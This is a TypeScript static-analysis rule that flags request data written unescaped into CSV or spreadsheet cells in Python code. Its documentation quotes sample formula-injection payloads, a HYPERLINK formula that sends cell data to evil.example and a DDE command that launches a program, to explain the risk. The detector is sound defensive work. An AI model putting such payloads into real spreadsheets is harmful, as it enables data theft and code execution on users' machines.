import type { Node } from 'web-tree-sitter';
import type { RuleContext } from '../../engine/context';
import type { CallSite } from '../../engine/model';
import type { Scope } from '../../engine/scopes';
import type { Taint } from '../../engine/taint';
import { dottedName, isFString, lastSegment, stringValue } from '../../engine/syntax';
import { argumentAt } from '../support/files';
import { refinedTaint } from '../support/flows';
import { unwrap } from '../support/xss';
import { defineRule } from '../rule';
import { REQUEST_DATA_TEXT } from '../../engine/taint';

const CSV_WRITERS = new Set([
  'csv.writer',
  'csv.DictWriter',
  'unicodecsv.writer',
  'unicodecsv.DictWriter',
  'backports.csv.writer',
  'backports.csv.DictWriter',
]);
const OPENPYXL_WORKBOOKS = new Set([
  'openpyxl.Workbook',
  'openpyxl.workbook.Workbook',
  'openpyxl.workbook.workbook.Workbook',
  'openpyxl.load_workbook',
  'openpyxl.reader.excel.load_workbook',
]);
const XLSXWRITER_WORKBOOKS = new Set(['xlsxwriter.Workbook', 'xlsxwriter.workbook.Workbook']);
/** Workbook methods that return a worksheet. */
const OPENPYXL_SHEET_METHODS = new Set(['create_sheet', 'get_sheet_by_name', 'copy_worksheet']);
const XLSXWRITER_SHEET_METHODS = new Set(['add_worksheet', 'get_worksheet_by_name']);
/** xlsxwriter methods that turn a string starting with "=" into a formula (`write_string` does not). */
const XLSXWRITER_WRITES = new Set(['write', 'write_row', 'write_column']);
/** DataFrame writers (pandas, polars). */
const FRAME_WRITERS = new Set(['to_csv', 'to_excel', 'write_csv', 'write_excel']);
const FRAME_MODULES = ['pandas', 'polars', 'modin', 'dask'];
/** Flask-Excel / pyexcel responses and files, with the keyword of the data they write. */
const PYEXCEL_WRITERS = new Map<string, string[]>([
  ['make_response_from_array', ['array']],
  ['make_response_from_records', ['records']],
  ['make_response_from_dict', ['adict']],
  ['make_response_from_book_dict', ['adict']],
  ['save_as', ['array', 'records', 'adict', 'bookdict']],
  ['isave_as', ['array', 'records', 'adict', 'bookdict']],
  ['save_book_as', ['bookdict']],
]);
const PYEXCEL_MODULES = /^(flask_excel|pyexcel|pyexcel_webio|django_excel)\./;

/** Helpers named for what they do to a cell: `escape_csv`, `sanitize_cell`, `csv_safe`, `defuse_formula`. */
const SANITIZER_WORD = /(escape|saniti[sz]|clean|defuse|defang|neutrali[sz]|protect|safe|quote|guard)/i;
const CELL_WORD = /(csv|cell|excel|xls|formula|spreadsheet|sheet|row|field|value|injection)/i;
/** The characters that start a formula (with tab and carriage return, which Excel skips). */
const FORMULA_TRIGGERS = ['=', '+', '-', '@'];

type Library = 'csv' | 'openpyxl' | 'xlsxwriter';

interface Sink {
  value: Node;
  /** Where to report, when not at the value (a DataFrame traced back to where it was built). */
  at?: Node;
  what: string;
  confidence: 'high' | 'medium';
}

export default defineRule({
  meta: {
    id: 'FS211',
    name: 'csv-formula-injection',
    title: 'Request data written into a CSV or spreadsheet cell',
    severity: 'warning',
    confidence: 'high',
    cwe: ['CWE-1236'],
    owasp: ['A03:2021'],
    docs: {
      summary:
        'Finds request data written into exported spreadsheets: rows of `csv.writer(...)`/`csv.DictWriter(...)` (`writerow`, `writerows`), pandas/polars DataFrames built from request data and saved with `to_csv`/`to_excel`/`write_csv`/`write_excel`, openpyxl worksheets (`ws.append(row)`, `ws.cell(..., value=...)`, `ws["A1"] = ...`, `cell.value = ...`), xlsxwriter `write`/`write_row`/`write_column` (not `write_string`, and not in a workbook created with `strings_to_formulas: False`), and Flask-Excel/pyexcel `make_response_from_array`/`records`/`dict`. Values followed through variables, lists, dicts, comprehensions and helpers of the same file. Values passed through a function named for it (`escape_csv`, `sanitize_cell`, `csv_safe`, or a same-file helper that tests for `=`, `+`, `-`, `@`), prefixed with a single quote (`"\'" + value`), stripped of those characters (`value.lstrip("=+-@")`) or converted to numbers are not reported.',
      why: 'Spreadsheet programs run a cell that starts with `=`, `+`, `-` or `@` as a formula, quoted or not. A name such as `=HYPERLINK("https://evil.example/?d="&A2&B2, "Click")` sends the neighbouring cells to the attacker when someone clicks it, and `=cmd|\' /C calc\'!A0` (DDE) can run a program on the machine of the administrator who opens the export, after one warning dialog.',
      example:
        '@app.route("/export")\ndef export():\n    out = io.StringIO()\n    writer = csv.writer(out)\n    writer.writerow(["name", "comment"])\n    writer.writerow([request.args["name"], request.args["comment"]])\n    return Response(out.getvalue(), mimetype="text/csv")',
      fix: 'def escape_csv(value):\n    text = str(value)\n    return "\'" + text if text.startswith(("=", "+", "-", "@", "\\t", "\\r")) else text\n\n@app.route("/export")\ndef export():\n    out = io.StringIO()\n    writer = csv.writer(out)\n    writer.writerow([escape_csv(request.args["name"]), escape_csv(request.args["comment"])])\n    return Response(out.getvalue(), mimetype="text/csv")',
    },
    references: [
      'https://owasp.org/www-community/attacks/CSV_Injection',
      'https://cwe.mitre.org/data/definitions/1236.html',
      'https://xlsxwriter.readthedocs.io/worksheet.html#worksheet-write',
    ],
  },
  // A spreadsheet or CSV writer (csv's writerow, pandas, openpyxl, xlsxwriter, pyexcel) and request data.
  trigger: [/excel|writerow|to_csv|write_csv|openpyxl|xlsxwriter/, REQUEST_DATA_TEXT],
  check(ctx: RuleContext) {
    for (const sink of sinks(ctx)) {
      const taint = taintOf(ctx, sink.value);
      if (!taint) continue;
      ctx.report(
        sink.at ?? sink.value,
        `Request data (${taint.label}) is written into a spreadsheet cell by ${sink.what}: a value starting with =, +, - or @ runs as a formula when the file is opened in Excel or LibreOffice; prefix such values with a single quote (').`,
        { taint, confidence: sink.confidence },
      );
    }
  },
});

function taintOf(ctx: RuleContext, node: Node): Taint | null {
  return refinedTaint(ctx, node, {
    sink: 'value',
    cleans: (n) => neutralizes(ctx, n) || prefixedWhenItMatters(ctx, n),
  });
}

/** A condition that looks at a value's first character: `v.startswith(...)`, `v[0] in ...`, `v[:1] in ...`. */
function testsFirstCharacter(condition: string): boolean {
  return /startswith|\bin\b|\[0\]|\[:1\]/.test(condition);
}

/**
 * A name given the quote prefix by an `if` that tests its first character, with nothing assigned after:
 *
 *     if name[:1] in ("=", "+", "-", "@"):
 *         name = "'" + name
 *
 * Past the `if`, the name either has the prefix or does not start with a trigger character. The
 * unprefixed assignment before it still reaches the cell, but only for values that are safe.
 */
function prefixedWhenItMatters(ctx: RuleContext, name: Node): boolean {
  if (name.type !== 'identifier') return false;
  const bindings = ctx.file.reaching(name.text, name, ctx.file.scopeAt(name));
  const mentionsName = new RegExp(`(^|[^\\w.])${name.text}\\b`);
  return bindings.some((binding) => {
    if (binding.kind !== 'assign' || !binding.value || !neutralizes(ctx, binding.value)) return false;
    const statement =
      binding.node.parent?.type === 'expression_statement' ? binding.node.parent : binding.node;
    const block = statement.parent;
    const test = block?.parent;
    if (test?.type !== 'if_statement' || test.childForFieldName('consequence')?.id !== block?.id)
      return false;
    if (test.namedChildren.some((c) => c?.type === 'elif_clause' || c?.type === 'else_clause')) return false;
    const condition = test.childForFieldName('condition')?.text ?? '';
    if (!testsFirstCharacter(condition) || /\bnot\b/.test(condition)) return false;
    if (!mentionsName.test(condition)) return false;
    return bindings.every((other) => other === binding || other.at <= test.startIndex);
  });
}

function sinks(ctx: RuleContext): Sink[] {
  const out: Sink[] = [];
  const imports = ctx.file.imports;
  const csvFile = ['csv', 'unicodecsv'].some((m) => imports.imports(m));
  const frameFile = FRAME_MODULES.some((m) => imports.imports(m));
  const openpyxlFile = imports.imports('openpyxl');
  const xlsxwriterFile = imports.imports('xlsxwriter');
  // Each sink reports inside its call (a frame at the call's receiver) or assignment.
  for (const site of ctx.file.calls) {
    if (!ctx.inFocus(site.node)) continue;
    const receiver = site.receiver;
    const callee = site.callee ?? '';
    const pyexcel = PYEXCEL_WRITERS.get(lastSegment(callee));
    if (pyexcel && PYEXCEL_MODULES.test(callee)) {
      const value = argumentAt(site, 0, ...pyexcel);
      if (value) out.push({ value, what: `${site.calleeText ?? callee}()`, confidence: 'high' });
      continue;
    }
    if (!receiver || site.node.childForFieldName('function')?.type !== 'attribute') continue;
    if (site.name === 'writerow' || site.name === 'writerows') {
      const kind = libraryOf(ctx, receiver, site.scope);
      if (kind === 'other' || (kind === null && !csvFile && !/writer|csv/i.test(receiver.text))) continue;
      const value = argumentAt(site, 0, 'row', 'rowdict', 'rows', 'rowdicts');
      if (value)
        out.push({
          value,
          what: `.${site.name}()`,
          confidence: kind === 'csv' || csvFile ? 'high' : 'medium',
        });
    } else if (FRAME_WRITERS.has(site.name) && frameFile) {
      if (stringsToFormulasOffIn(site.node)) continue;
      out.push({
        value: frameContents(ctx, receiver),
        at: receiver,
        what: `.${site.name}()`,
        confidence: 'high',
      });
    } else if (site.name === 'append' || site.name === 'cell') {
      const kind = sheetLibrary(ctx, receiver, site.scope, openpyxlFile ? 'openpyxl' : null);
      if (kind !== 'openpyxl') continue;
      const value = site.name === 'append' ? argumentAt(site, 0, 'iterable') : argumentAt(site, 2, 'value');
      if (value) out.push({ value, what: `worksheet.${site.name}()`, confidence: 'high' });
    } else if (XLSXWRITER_WRITES.has(site.name) && xlsxwriterFile) {
      const kind = sheetLibrary(ctx, receiver, site.scope, 'xlsxwriter');
      if (kind !== 'xlsxwriter') continue;
      // `write("A1", data)` or `write(0, 0, data)`.
      const first = site.args.positional[0];
      const a1 = !!first && (stringValue(first) !== undefined || isFString(unwrap(first)));
      const value = site.args.positional[a1 ? 1 : 2];
      if (value) out.push({ value, what: `worksheet.${site.name}()`, confidence: 'high' });
    }
  }
  if (openpyxlFile) out.push(...cellAssignments(ctx));
  return out;
}

/**
 * The frame whose cells are written: `df.query(f"name == '{q}'").head(10)` writes cells of `df`, the request
 * only chose which rows. Selecting and ordering methods are followed to their receiver, also through names.
 */
function frameContents(ctx: RuleContext, frame: Node): Node {
  let current = frame;
  for (let step = 0; step < 12; step++) {
    const value = unwrap(ctx.file.resolveValue(current));
    const site = value.type === 'call' ? ctx.file.callAt(value) : undefined;
    if (site?.receiver && SELECTING_METHODS.has(site.name)) current = site.receiver;
    else if (value.id !== current.id && value.type === 'call') current = value;
    else return current;
  }
  return current;
}

/** DataFrame methods whose result holds cells of the receiver only (the arguments pick rows and columns). */
const SELECTING_METHODS = new Set([
  'query',
  'filter',
  'head',
  'tail',
  'sort_values',
  'sort_index',
  'nlargest',
  'nsmallest',
  'sample',
  'drop',
  'drop_duplicates',
  'dropna',
  'reset_index',
  'reindex',
  'take',
  'isin',
  'where',
  'mask',
  'limit',
  'select',
]);

/** `ws["A1"] = v`, `ws.cell(row=1, column=1).value = v`, `cell = ws["B2"]; cell.value = v`. */
function cellAssignments(ctx: RuleContext): Sink[] {
  const out: Sink[] = [];
  for (const assignment of ctx.file.nodesOfType('assignment')) {
    if (!assignment || !ctx.inFocus(assignment)) continue;
    const left = assignment.childForFieldName('left');
    const value = assignment.childForFieldName('right');
    if (!left || !value) continue;
    const scope = ctx.file.scopeAt(assignment);
    if (left.type === 'subscript') {
      const sheet = left.childForFieldName('value');
      if (sheet && sheetLibrary(ctx, sheet, scope, 'openpyxl') === 'openpyxl')
        out.push({ value, what: 'a worksheet cell assignment', confidence: 'high' });
    } else if (left.type === 'attribute' && left.childForFieldName('attribute')?.text === 'value') {
      const cell = left.childForFieldName('object');
      if (cell && isOpenpyxlCell(ctx, cell, scope))
        out.push({ value, what: 'cell.value', confidence: 'high' });
    }
  }
  return out;
}

function isOpenpyxlCell(ctx: RuleContext, node: Node, scope: Scope, depth = 0): boolean {
  if (depth > 6) return false;
  const value = unwrap(node);
  if (value.type === 'call') {
    const site = ctx.file.callAt(value);
    return (
      site?.name === 'cell' &&
      !!site.receiver &&
      sheetLibrary(ctx, site.receiver, scope, 'openpyxl') === 'openpyxl'
    );
  }
  if (value.type === 'subscript') {
    const sheet = value.childForFieldName('value');
    return !!sheet && sheetLibrary(ctx, sheet, scope, 'openpyxl') === 'openpyxl';
  }
  if (value.type === 'identifier') {
    return ctx.file
      .reaching(value.text, value, scope)
      .some(
        (b) =>
          (b.kind === 'assign' || b.kind === 'for') &&
          !!b.value &&
          isOpenpyxlCell(ctx, b.value, scope, depth + 1),
      );
  }
  return false;
}

/**
 * What a `writerow` receiver was built by: a csv writer, something else the file imported (`other`), or
 * null when it cannot be traced (a parameter, an attribute set elsewhere).
 */
function libraryOf(ctx: RuleContext, node: Node, scope: Scope, depth = 0): 'csv' | 'other' | null {
  if (depth > 6) return null;
  const value = unwrap(node);
  if (value.type === 'call') {
    const callee = ctx.file.callAt(value)?.callee ?? '';
    if (CSV_WRITERS.has(callee)) return 'csv';
    const head = callee.split('.')[0] ?? '';
    return head && ctx.file.imports.isImportedName(head) ? 'other' : null;
  }
  if (value.type !== 'identifier' && !dottedName(value)?.startsWith('self.')) return null;
  const bindings = ctx.file.reaching(dottedName(value) ?? value.text, value, scope);
  let result: 'csv' | 'other' | null = null;
  for (const binding of bindings) {
    if (!['assign', 'with', 'walrus'].includes(binding.kind) || !binding.value) return null;
    const kind = libraryOf(ctx, binding.value, scope, depth + 1);
    if (kind === 'csv') return 'csv';
    result = kind;
  }
  return result;
}

/**
 * Which library a worksheet comes from, traced through assignments to the workbook that made it; when it
 * cannot be traced, `fallback` if its name says it is a sheet (`ws`, `sheet`, `worksheet`, `report_sheet`).
 */
function sheetLibrary(
  ctx: RuleContext,
  node: Node,
  scope: Scope,
  fallback: Library | null,
  depth = 0,
): Library | 'other' | null {
  if (depth > 8) return null;
  const value = unwrap(node);
  switch (value.type) {
    case 'attribute': {
      // `wb.active`
      const object = value.childForFieldName('object');
      if (value.childForFieldName('attribute')?.text === 'active' && object)
        return workbookLibrary(ctx, object, scope) === 'openpyxl' ? 'openpyxl' : null;
      break;
    }
    case 'subscript': {
      // `wb["Sheet1"]`, `wb.worksheets[0]`
      const container = unwrap(value.childForFieldName('value') ?? value);
      const workbook =
        container.type === 'attribute' && container.childForFieldName('attribute')?.text === 'worksheets'
          ? container.childForFieldName('object')
          : container;
      if (workbook && workbookLibrary(ctx, workbook, scope) === 'openpyxl') return 'openpyxl';
      break;
    }
    case 'call': {
      const site = ctx.file.callAt(value);
      if (!site?.receiver) return site?.callee && isImportedCall(ctx, site) ? 'other' : null;
      const workbook = workbookLibrary(ctx, site.receiver, scope);
      if (OPENPYXL_SHEET_METHODS.has(site.name) && workbook === 'openpyxl') return 'openpyxl';
      if (XLSXWRITER_SHEET_METHODS.has(site.name) && workbook === 'xlsxwriter') return 'xlsxwriter';
      // A workbook made with strings_to_formulas False: its sheets write strings as strings.
      if (workbook === 'formulas off') return 'other';
      return isImportedCall(ctx, site) ? 'other' : null;
    }
    case 'identifier': {
      if (ctx.file.imports.isImportedName(value.text)) return 'other';
      const bindings = ctx.file.reaching(value.text, value, scope);
      for (const binding of bindings) {
        if (!binding.value) continue;
        if (binding.kind === 'for') {
          // `for ws in wb:` / `for ws in wb.worksheets:`
          const iterable = unwrap(binding.value);
          const workbook =
            iterable.type === 'attribute' && iterable.childForFieldName('attribute')?.text === 'worksheets'
              ? iterable.childForFieldName('object')
              : iterable;
          if (workbook && workbookLibrary(ctx, workbook, scope) === 'openpyxl') return 'openpyxl';
          continue;
        }
        // `ws["A1"] = "Company"` writes a cell: it does not say what `ws` is.
        if (!['assign', 'with', 'walrus'].includes(binding.kind) || binding.weak) continue;
        const kind = sheetLibrary(ctx, binding.value, scope, null, depth + 1);
        if (kind) return kind;
        const literal = unwrap(binding.value).type;
        if (['list', 'dictionary', 'tuple', 'set', 'list_comprehension', 'string'].includes(literal))
          return 'other';
      }
      break;
    }
    case 'list':
    case 'dictionary':
    case 'string':
      return 'other';
  }
  const name = lastSegment(dottedName(value) ?? '');
  return name && /^(ws|sheet|worksheet|work_sheet)\d*$|_(ws|sheet|worksheet)$/i.test(name) ? fallback : null;
}

function workbookLibrary(
  ctx: RuleContext,
  node: Node,
  scope: Scope,
  depth = 0,
): Library | 'formulas off' | null {
  if (depth > 6) return null;
  const value = unwrap(node);
  if (value.type === 'call') {
    const callee = ctx.file.callAt(value)?.callee ?? '';
    if (OPENPYXL_WORKBOOKS.has(callee)) return 'openpyxl';
    if (XLSXWRITER_WORKBOOKS.has(callee))
      return stringsToFormulasOffIn(value) ? 'formulas off' : 'xlsxwriter';
    return null;
  }
  if (value.type !== 'identifier') return null;
  for (const binding of ctx.file.reaching(value.text, value, scope)) {
    if (!['assign', 'with', 'walrus'].includes(binding.kind) || !binding.value) continue;
    const kind = workbookLibrary(ctx, binding.value, scope, depth + 1);
    if (kind) return kind;
  }
  return null;
}

function isImportedCall(ctx: RuleContext, site: CallSite): boolean {
  const head = (site.calleeText ?? '').split('.')[0] ?? '';
  return head !== '' && ctx.file.imports.isImportedName(head);
}

/** `xlsxwriter.Workbook(path, {"strings_to_formulas": False})`: `write()` keeps strings as strings. */
function stringsToFormulasOffIn(node: Node): boolean {
  return /["']strings_to_formulas["']\s*:\s*False/.test(node.text);
}

/**
 * Does this expression neutralize a cell value: a sanitizer named for it or written for it in this file, a
 * single-quote prefix, stripping the trigger characters, or a conditional that adds the prefix when the value
 * starts with one of them?
 */
function neutralizes(ctx: RuleContext, node: Node, depth = 0): boolean {
  if (depth > 4) return false;
  const value = unwrap(node);
  switch (value.type) {
    case 'call': {
      const site = ctx.file.callAt(value);
      if (!site) return false;
      if (isSanitizerReference(ctx, value.childForFieldName('function'))) return true;
      // `value.lstrip("=+-@")`
      if (['lstrip', 'strip'].includes(site.name)) {
        const chars = stringValue(site.args.positional[0] ?? null);
        return chars !== undefined && chars.includes('=');
      }
      // `df.applymap(escape_csv)`, `df.map(sanitize_cell)`
      if (['map', 'applymap', 'apply', 'transform'].includes(site.name) && site.receiver)
        return isSanitizerReference(ctx, site.args.positional[0] ?? null);
      // `"'{}".format(v)`
      if (site.name === 'format' && site.receiver) return quotePrefixed(site.receiver);
      return false;
    }
    case 'identifier':
    case 'attribute': {
      // A function passed as a value (`map(escape_csv, row)`), not a variable that happens to be named `safe_row`.
      const name = value.type === 'identifier' ? value.text : (dottedName(value)?.split('.')[0] ?? '');
      const isFunction =
        ctx.file.imports.isImportedName(name) || ctx.file.functionsNamed(lastSegment(value.text)).length > 0;
      return isFunction && isSanitizerReference(ctx, value);
    }
    case 'binary_operator': {
      const operator = value.childForFieldName('operator')?.text;
      const left = value.childForFieldName('left');
      return (operator === '+' || operator === '%') && !!left && quotePrefixed(left);
    }
    case 'string':
      return quotePrefixed(value);
    case 'conditional_expression': {
      // `"'" + v if v.startswith(("=", "+", "-", "@")) else v`
      const [whenTrue, condition, whenFalse] = value.namedChildren;
      if (!condition || !testsFirstCharacter(condition.text)) return false;
      return [whenTrue, whenFalse].some((branch) => !!branch && neutralizes(ctx, branch, depth + 1));
    }
    default:
      return false;
  }
}

/** A string literal (or f-string) whose text starts with a single quote or a tab. */
function quotePrefixed(node: Node): boolean {
  const value = unwrap(node);
  if (value.type !== 'string') return false;
  const first = value.namedChildren.find((c) => c?.type === 'string_content' || c?.type === 'interpolation');
  return first?.type === 'string_content' && /^('|\\t)/.test(first.text);
}

/** A function named like a cell sanitizer, or a same-file function that tests for the trigger characters. */
function isSanitizerReference(ctx: RuleContext, node: Node | null): boolean {
  if (!node || (node.type !== 'identifier' && node.type !== 'attribute')) return false;
  const name = lastSegment(dottedName(node) ?? '');
  if (!name) return false;
  if (SANITIZER_WORD.test(name) && CELL_WORD.test(name)) return true;
  return ctx.file.functionsNamed(name).some((fn) => mentionsTriggers(ctx, fn));
}

/** Does the function's text hold the formula trigger characters as string literals (directly or via a constant)? */
function mentionsTriggers(ctx: RuleContext, fn: Scope): boolean {
  let text = '';
  for (const literal of fn.node.descendantsOfType(['string', 'identifier'])) {
    if (!literal) continue;
    if (literal.type === 'string') {
      text += stringValue(literal) ?? '';
    } else if (/^[A-Z][A-Z0-9_]*$/.test(literal.text)) {
      const constant = ctx.file.resolveValue(literal, ctx.file.module);
      if (constant.id !== literal.id) text += constant.text;
    }
  }
  return FORMULA_TRIGGERS.filter((c) => text.includes(c)).length >= 3;
}
